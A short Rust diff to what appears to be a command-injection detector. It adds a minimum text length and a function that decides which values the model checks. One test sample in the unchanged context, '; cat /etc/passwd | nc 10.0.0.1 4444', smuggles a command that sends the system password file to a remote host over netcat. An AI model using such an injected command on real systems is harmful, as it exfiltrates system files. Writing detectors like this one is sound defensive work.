@@ -76,7 +76,7 @@ const fn rule(
 
 /// Where the model is asked: values that an application reads. Headers have a language of their
 /// own.
-pub(super) const CARRIERS: Carriers = Carriers::VALUES.with(Carrier::Path);
+const CARRIERS: Carriers = Carriers::VALUES.with(Carrier::Path);
 
 rules!(
     QUERY,
@@ -106,6 +106,14 @@ rules!(
     &["; cat /etc/passwd | nc 10.0.0.1 4444"],
     &["cats; dogs"]
 );
+
+/// The length from which a text is worth an opinion: shorter ones are three signs at most.
+const SHORTEST: usize = 4;
+
+/// Whether the model is asked about a squeezed text in a carrier.
+pub(super) fn is_asked(carrier: Carrier, text: &[u8]) -> bool {
+    text.len() >= SHORTEST && CARRIERS.contains(carrier)
+}
 
 /// The result of the model for one text.
 #[derive(Clone, Debug, PartialEq, Eq)]
